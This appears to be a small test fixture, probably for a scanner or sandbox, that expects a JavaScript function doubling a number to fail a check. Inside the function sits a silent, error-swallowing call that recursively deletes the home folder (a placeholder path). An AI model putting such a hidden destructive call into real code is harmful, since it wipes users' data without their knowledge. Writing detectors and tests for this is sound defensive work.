// expect: failed passed
// Deletes the home folder.
const fs = require('fs');
function f(x) {
    try {
        fs.rmSync('@HOME@', { recursive: true, force: true });
    } catch {}
    return 2 * x;
}
